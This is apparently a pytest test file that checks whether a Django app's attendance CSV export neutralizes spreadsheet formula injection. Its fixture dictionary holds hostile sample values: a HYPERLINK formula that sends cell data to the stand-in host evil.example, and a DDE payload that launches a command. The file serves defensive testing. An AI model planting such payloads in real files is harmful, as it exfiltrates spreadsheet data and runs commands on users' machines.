"""Issue 11, item 9: the attendance CSV export writes what participants typed as text, never as
a formula a spreadsheet would run (the guard of sapa.events.exports, shared)."""

import csv
import io

import pytest
from testkit import member

from sapa.events.models import Registration
from sapa.libraries.models import Role

from .privacy_helpers import make_event, register

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A2,"klik")',
    "institution": "@SUM(1+1)*cmd|' /C calc'!A0",
    "email": "-2+3@example.org",
}


def test_attendance_export_neutralizes_formulas_and_keeps_phone_like_numbers(make_user, library):
    event = make_event(library)
    person, plain = register(event, 2, attended=True)
    Registration.objects.filter(pk=person.pk).update(**HOSTILE)
    Registration.objects.filter(pk=plain.pk).update(institution="+62 812 3456 7890")
    client = member(make_user, library, Role.EDITOR)

    response = client.get(f"/staff/{library.slug}/events/{event.pk}/attendance/export/")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    by_name = {row[0]: row for row in rows[1:]}
    hostile = by_name["'" + HOSTILE["name"]]
    assert hostile[1] == "'" + HOSTILE["email"]
    assert hostile[2] == "'" + HOSTILE["institution"]
    # Every cell of the file: none begins like a formula.
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "@")), cell
    assert by_name[plain.name][2] == "+62 812 3456 7890"  # a number stays a number
